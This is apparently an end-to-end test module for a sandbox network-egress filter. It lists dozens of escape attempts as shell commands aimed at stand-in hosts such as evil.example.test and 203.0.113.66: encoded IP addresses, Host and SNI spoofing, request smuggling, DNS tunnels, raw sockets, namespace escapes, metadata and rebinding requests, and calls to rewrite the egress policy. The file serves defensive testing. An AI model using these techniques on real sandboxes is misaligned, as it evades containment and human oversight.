"""Ways out of a sandbox, each a shell script that its root may run. What gets out by one of them is seen where it arrives."""

from __future__ import annotations

from typing import Any, NamedTuple

from tests.e2e.lab import HOST_PORT, Person

TALK = r"""cat > /tmp/talk <<'END'
#!/usr/bin/perl
use IO::Socket::IP; use IO::Select;
my $proto = 'tcp'; if ($ARGV[0] eq '-u') { $proto = 'udp'; shift }
my ($host, $port, $until) = @ARGV; my $limit = defined $until ? 60 : 2;
local $/; my $input = <STDIN>;
my $s = IO::Socket::IP->new(PeerAddr => $host, PeerPort => $port, Proto => $proto, Timeout => $limit) or die "$@\n";
$s->autoflush(1); print $s $input or die "$!\n";
my $wait = IO::Select->new($s); my ($got, $all) = ('', '');
while ($wait->can_read($limit)) { last unless sysread($s, $got, 65536); print $got; $all .= $got; last if defined $until && $all =~ /$until/ }
END
cat > /tmp/odd <<'END'
#!/usr/bin/perl
use Socket qw(:all);
my ($type, $protocol, $host, $port, $how) = @ARGV;
socket(my $s, 2, $type, $protocol) or die "$!\n";
my $to = sockaddr_in($port, inet_aton($host));
if ($how eq 'routed') { setsockopt($s, 0, 4, pack('C*', 131, 7, 4, 203, 0, 113, 66)) or warn "route: $!\n" }
if ($how eq 'as-gateway') {
  setsockopt($s, 1, $_, 1) for 2, 15;
  bind($s, sockaddr_in(53, inet_aton('100.64.0.1'))) or warn "bind: $!\n";
}
if ($how eq 'fast') { send($s, 'evil', 0x20000000, $to) or die "$!\n" }
else { alarm 2; connect($s, $to) or die "$!\n"; send($s, 'evil', 0) or die "$!\n" }
shutdown($s, 1); alarm 2; sysread($s, my $got, 100); print $got;
END
sudo install -m 755 /tmp/talk /tmp/odd /usr/local/bin
"""
"""Installs `talk [-u] HOST PORT [UNTIL]`, which sends its input and prints what comes, and `odd`, for odder sockets.

It prints what comes within two seconds, or, where something must come, all until that matches the expression UNTIL.
"""


class Attempt(NamedTuple):
    """A script, and the host that the audit log names for it; None where it never becomes a connection."""

    script: str
    host: str | None = None


WEB, EVIL, LITERAL = "web.example.test", "evil.example.test", "203.0.113.66"
WEB_ADDRESS = "203.0.113.10"
FOR_WEB, FOR_EVIL = f"Host: {WEB}", f"Host: {EVIL}"
SECOND = rf"GET /evil HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"
FINE = "GET /fine HTTP/1.1"
"""An allowed request, which carries what must not arrive."""
QUERY = r"\022\064\001\000\000\001\000\000\000\000\000\000\004evil\004test\000\000"
POST = """curl -s -m 30 -X $method -d '{"domain": "evil.example.test"}' http://irons.internal$path"""


def _request(line: str, *fields: str, port: int = 80, more: str = "") -> str:
    """Send a request by hand to the allowed name."""
    head = r"\r\n".join((line, *fields, "", more))
    return f"printf '{head}' | talk {WEB} {port}"


ATTEMPTS: dict[str, Attempt] = {
    "a literal address": Attempt("curl -s -m 30 http://203.0.113.66/", LITERAL),
    "TLS without a name": Attempt("curl -sk -m 30 https://203.0.113.66/", LITERAL),
    "a literal IPv6 address": Attempt("curl -s -m 30 'http://[2001:db8:113::66]/'", "2001:db8:113::66"),
    "IPv6 alone": Attempt(
        f"curl -6 -s -m 30 http://{EVIL}/; echo evil | talk 2001:db8:113::67 9999", "2001:db8:113::67"
    ),
    "a decimal address": Attempt("curl -s -m 30 http://3405803842/", LITERAL),
    "a hexadecimal address": Attempt("curl -s -m 30 http://0xcb007142/", LITERAL),
    "an octal address": Attempt("curl -s -m 30 http://0313.0.0161.0102/", LITERAL),
    "a short address": Attempt("curl -s -m 30 http://203.28994/; curl -s -m 30 http://203.0.28994/", LITERAL),
    "a mixed address": Attempt("curl -s -m 30 http://0xcb.0.0161.66/", LITERAL),
    "an odd address in a Host": Attempt(_request("GET / HTTP/1.1", "Host: 0xcb007142"), LITERAL),
    "a mapped address": Attempt("curl -s -m 30 'http://[::ffff:203.0.113.66]/'", LITERAL),
    "a compatible address": Attempt("curl -s -m 30 'http://[::203.0.113.66]/'", "::cb00:7142"),
    "a 6to4 address": Attempt("curl -s -m 30 'http://[2002:cb00:7142::1]/'", "2002:cb00:7142::1"),
    "a NAT64 address": Attempt("curl -s -m 30 'http://[64:ff9b::cb00:7142]/'", "64:ff9b::cb00:7142"),
    "a Teredo address": Attempt("curl -s -m 30 'http://[2001:0:cb00:7142::1]/'", "2001:0:cb00:7142::1"),
    "a denied name": Attempt(f"curl -s -m 30 http://{EVIL}/; curl -sk -m 30 https://{EVIL}/", EVIL),
    "a name in mixed case with a dot": Attempt("curl -s -m 30 http://EVIL.Example.Test./", EVIL),
    "an unknown subdomain": Attempt(f"curl -s -m 30 http://sub.{WEB}/", f"sub.{WEB}"),
    "a spoofed Host at a denied address": Attempt(f"curl -s -m 30 -H '{FOR_EVIL}' http://{LITERAL}/", EVIL),
    "a spoofed SNI at an allowed name": Attempt(
        f"curl -sk -m 30 --connect-to {EVIL}:443:{WEB}:443 https://{EVIL}/", EVIL
    ),
    "an allowed SNI at a denied name": Attempt(
        f"curl -sk -m 30 --connect-to {WEB}:443:{EVIL}:443 https://{WEB}/", EVIL
    ),
    "a spoofed Host at an allowed name": Attempt(f"curl -s -m 30 -H '{FOR_EVIL}' http://{WEB}/", EVIL),
    "an allowed Host at a denied name": Attempt(f"curl -s -m 30 -H '{FOR_WEB}' http://{EVIL}/", EVIL),
    "two Host headers": Attempt(_request("GET / HTTP/1.1", FOR_WEB, FOR_EVIL), WEB),
    "no Host": Attempt(_request("GET /evil HTTP/1.1"), WEB),
    "a Host in two lines": Attempt(_request("GET / HTTP/1.1", FOR_WEB, f" {EVIL}"), WEB),
    "a Host with a port": Attempt(_request("GET /evil HTTP/1.1", f"{FOR_EVIL}:80"), EVIL),
    "an absolute form": Attempt(_request(f"GET http://{EVIL}/ HTTP/1.1", FOR_WEB), EVIL),
    "an absolute form with another Host": Attempt(_request(f"GET http://{WEB}/ HTTP/1.1", FOR_EVIL), EVIL),
    "an absolute form without a version": Attempt(rf"printf 'GET http://{EVIL}/\r\n' | talk {WEB} 8080", WEB),
    "a user part in the authority": Attempt(_request(f"GET http://{WEB}@{EVIL}/ HTTP/1.1", FOR_WEB), WEB),
    "a question mark in the authority": Attempt(
        _request(f"GET http://{EVIL}?@{WEB}/ HTTP/1.1", FOR_WEB), WEB
    ),
    "a leading blank line": Attempt(rf"printf '\r\n\r\n{SECOND}' | talk {WEB} 80", EVIL),
    "an unknown method": Attempt(_request("FOO /evil HTTP/1.1", FOR_EVIL), EVIL),
    "a lower-case method": Attempt(_request("get /evil HTTP/1.1", FOR_EVIL), EVIL),
    "both lengths": Attempt(
        _request(
            "POST /ok HTTP/1.1",
            *(FOR_WEB, "Content-Length: 4", "Transfer-Encoding: chunked"),
            more=rf"0\r\n\r\n{SECOND}",
        ),
        WEB,
    ),
    "CONNECT": Attempt(_request(f"CONNECT {EVIL}:443 HTTP/1.1", f"{FOR_EVIL}:443"), EVIL),
    "CONNECT to the allowed name": Attempt(
        _request(f"CONNECT {WEB}:80 HTTP/1.1", f"{FOR_WEB}:80", more=SECOND), WEB
    ),
    "HTTP/2 by prior knowledge": Attempt(f"curl -s -m 30 --http2-prior-knowledge http://{WEB}/evil", WEB),
    "HTTP/2 by prior knowledge elsewhere": Attempt(
        f"curl -s -m 30 --http2-prior-knowledge -H 'Host: {EVIL}' http://{WEB}:8080/evil", EVIL
    ),
    "an upgrade to HTTP/2": Attempt(
        _request(
            FINE,
            *(FOR_WEB, "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABk"),
            more=SECOND,
        ),
        EVIL,
    ),
    "an upgrade to anything": Attempt(
        _request(FINE, FOR_WEB, "Connection: Upgrade", "Upgrade: foo", more=SECOND), EVIL
    ),
    "plain text on port 443": Attempt(_request("GET /evil HTTP/1.1", FOR_WEB, port=443), WEB),
    "opaque bytes on port 80": Attempt(rf"printf '\001\002\003evil' | talk {WEB} 80", WEB),
    "another port of an allowed name": Attempt(f"echo evil | talk {WEB} 9999", WEB),
    "DNS to a server of one's own": Attempt(rf"printf '{QUERY}\001\000\001' | talk -u 203.0.113.53 53"),
    "DNS for text to a server of one's own": Attempt(
        rf"printf '{QUERY}\020\000\001' | talk -u 203.0.113.53 53; printf '{QUERY}\020\000\001' | talk -u 2001:db8:113::53 53"
    ),
    "DNS over TCP": Attempt(rf"printf '\000\033{QUERY}\001\000\001' | talk 203.0.113.53 53"),
    "a DNS tunnel by long labels": Attempt(
        rf"getent hosts $(head -c 30 /dev/urandom | od -An -tx1 | tr -d ' \n').tunnel.{EVIL}"
    ),
    "a DNS tunnel below an allowed name": Attempt(f"getent hosts 6576696c.{WEB}"),
    "the name server's own port": Attempt("sudo odd 2 17 203.0.113.66 123 as-gateway"),
    "DNS over TLS": Attempt(
        "curl -sk -m 30 https://203.0.113.53:853/; curl -sk -m 30 https://tls.example.test:853/",
        "tls.example.test",
    ),
    "DNS over HTTPS": Attempt(
        f"curl -sk -m 30 --doh-insecure --doh-url https://doh.example.test/dns-query http://{EVIL}/;"
        " curl -sk -m 30 'https://203.0.113.53/dns-query?dns=AAAB'",
        "doh.example.test",
    ),
    "QUIC's port": Attempt(f"echo evil | talk -u {WEB} 443", WEB),
    "QUIC's port by IPv6": Attempt("echo evil | talk -u 2001:db8:113::68 443", "2001:db8:113::68"),
    "NTP": Attempt("echo evil | talk -u 203.0.113.66 123", LITERAL),
    "multicast": Attempt("echo evil | talk -u 224.0.0.251 5353", "224.0.0.251"),
    "ICMP": Attempt("ping -c 1 -W 1 203.0.113.69; ping -6 -c 1 -W 1 2001:db8:113::69", "203.0.113.69"),
    "SCTP": Attempt("odd 1 132 203.0.113.66 9999"),
    "UDP-Lite": Attempt("odd 2 136 203.0.113.66 443"),
    "multipath TCP": Attempt("odd 1 262 203.0.113.66 9999", LITERAL),
    "TCP Fast Open": Attempt("odd 1 6 203.0.113.66 9999 fast", LITERAL),
    "a source route": Attempt("sudo odd 1 6 203.0.113.66 9999 routed", LITERAL),
    "raw sockets": Attempt("sudo perl -e 'socket(S, 2, 3, 1) and exit 0; exit 1' && echo LEAK"),
    "packet sockets": Attempt("sudo perl -e 'socket(S, 17, 3, 768) and exit 0; exit 1' && echo LEAK"),
    "vsock": Attempt("sudo perl -e 'socket(S, 40, 1, 0) and exit 0; exit 1' && echo LEAK"),
    "the packet filter": Attempt("sudo perl -e 'socket(S, 16, 3, 12) and exit 0; exit 1' && echo LEAK"),
    "another route": Attempt(
        "sudo ip route add default via 198.51.100.1 && echo LEAK; sudo ip route flush table all && echo LEAK"
    ),
    "another link": Attempt(
        "sudo ip link add x type veth && echo LEAK; sudo ip link set lo down && echo LEAK"
    ),
    "another address": Attempt(
        "sudo ip addr add 198.51.100.9/24 dev lo && echo LEAK; sudo ip addr del 100.64.0.2 dev lo && echo LEAK"
    ),
    "a user namespace": Attempt("unshare -Ur ip route add default via 198.51.100.1 && echo LEAK"),
    "a network namespace": Attempt("sudo unshare -rn curl -s -m 30 http://203.0.113.66/ && echo LEAK"),
    "a network namespace in another": Attempt(
        "unshare -Urn unshare -Urn sh -c 'ip link set lo up; curl -s -m 30 http://203.0.113.66/ && echo LEAK;"
        " ip link add a type veth peer name b netns 1 && echo LEAK'"
    ),
    "the first process's namespaces": Attempt(
        "sudo nsenter -t 1 -n ip route add default via 198.51.100.1 && echo LEAK; sudo nsenter -t 1 -U true && echo LEAK"
    ),
    "the backend's processes": Attempt(
        "sudo cat /proc/[0-9]*/cmdline | tr '\\0' '\\n' | grep '[i]rons_plugins' && echo LEAK"
    ),
    "the backend's sockets": Attempt("sudo find / -xdev -name '*.sock' | grep . && echo LEAK"),
    "new rules by the policy's own page": Attempt(
        f"for method in POST PUT DELETE PATCH; do for path in / /egress/allow; do {POST}; done; done;"
        " curl -s -m 30 http://ruled.example.test/",
        "ruled.example.test",
    ),
}
"""Tried in a sandbox that may reach web.example.test, on port 8080 too, and the names that lead beneath the floor."""

BENEATH: dict[str, Attempt] = {
    "rebinding to loopback": Attempt(
        "curl -s -m 30 http://rebind-loopback.example.test/;"
        f" echo evil | talk rebind-loopback.example.test {HOST_PORT}",
        "rebind-loopback.example.test",
    ),
    "rebinding to a private address": Attempt(
        "curl -s -m 30 http://rebind-private.example.test/", "rebind-private.example.test"
    ),
    "rebinding to metadata": Attempt(
        "curl -s -m 30 http://rebind-metadata.example.test/", "rebind-metadata.example.test"
    ),
    "rebinding to the host": Attempt(
        f"curl -s -m 30 http://rebind-own.example.test/; echo evil | talk rebind-own.example.test {HOST_PORT}",
        "rebind-own.example.test",
    ),
    "rebinding to the router": Attempt(
        "curl -s -m 30 http://rebind-host.example.test/", "rebind-host.example.test"
    ),
    "metadata itself": Attempt(
        "curl -s -m 30 http://169.254.169.254/; curl -s -m 30 'http://[fd00:ec2::254]/';"
        " curl -s -m 30 'http://[64:ff9b::a9fe:a9fe]/'; curl -s -m 30 http://2852039166/",
        "169.254.169.254",
    ),
    "a private address": Attempt(
        "curl -s -m 30 http://10.9.8.7/; curl -s -m 30 http://10.591879/", "10.9.8.7"
    ),
    "the host's own address": Attempt(
        f"curl -s -m 30 http://198.51.100.2:{HOST_PORT}/; echo evil | talk 198.51.100.2 22", "198.51.100.2"
    ),
    "the host's own IPv6 address": Attempt(f"echo evil | talk 2001:db8:51::2 {HOST_PORT}", "2001:db8:51::2"),
    "the host's loopback": Attempt(
        f"for a in 127.0.0.1 127.9.9.9 ::1 0.0.0.0 localhost; do echo evil | talk $a {HOST_PORT}; done;"
        f" curl -s -m 30 'http://[::ffff:127.0.0.1]:{HOST_PORT}/'"
    ),
    "the router on the host's network": Attempt(
        "curl -s -m 30 http://198.51.100.1/; echo evil | talk 2001:db8:51::1 9999", "198.51.100.1"
    ),
    "the gateway's own port": Attempt(
        "for a in 198.51.100.2 127.0.0.1 100.64.0.1; do echo evil | talk $a 15001; done", "100.64.0.1"
    ),
}
"""What the floor refuses in either mode."""


def allow(person: Person, name: str) -> None:
    """Allow a sandbox, besides web.example.test, what the attempts need: other ports of it, and the names that lead beneath the floor."""
    places = ("loopback", "private", "metadata", "host", "own")
    rebinding = [f"rebind-{where}.example.test{port}" for where in places for port in ("", f":{HOST_PORT}")]
    person.ok("egress", "allow", "--sandbox", name, f"{WEB}:22", f"{WEB}:8080", *rebinding)


def is_allowed(seen: dict[str, Any]) -> bool:
    """An allowed name may be looked up, connected to and asked for one path; nothing else of these attempts ever arrives."""
    if seen["kind"] == "dns":
        return str(seen["name"]).startswith("rebind-") or seen["name"] == WEB
    if seen["kind"] == "http":
        return (seen["line"], seen["host"], seen["server"], seen["upgrade"]) == (FINE, WEB, WEB_ADDRESS, "")
    return (seen["kind"], seen["server"]) == ("connect", WEB_ADDRESS)


def at_once(attempts: dict[str, Attempt], over: str, together: int = 4) -> str:
    """A shell script that makes the attempts, says which of them succeeded inside, and asks for a path at the end.

    Args:
        attempts: what is tried.
        over: the path.
        together: attempts at a time: most of them wait for an answer that must not come.
    """
    lines = []
    for number, attempt in enumerate(attempts.values()):
        lines.append(
            f"{{ ({attempt.script}) >/tmp/said-{number} 2>&1 </dev/null;"
            f" grep -q LEAK /tmp/said-{number} && echo 'leak {number}'; }} &"
        )
        if number % together == together - 1:
            lines.append("wait")
    return "\n".join([*lines, "wait", f"curl -s -o /dev/null -m 60 http://{WEB}{over}", "echo over", ""])
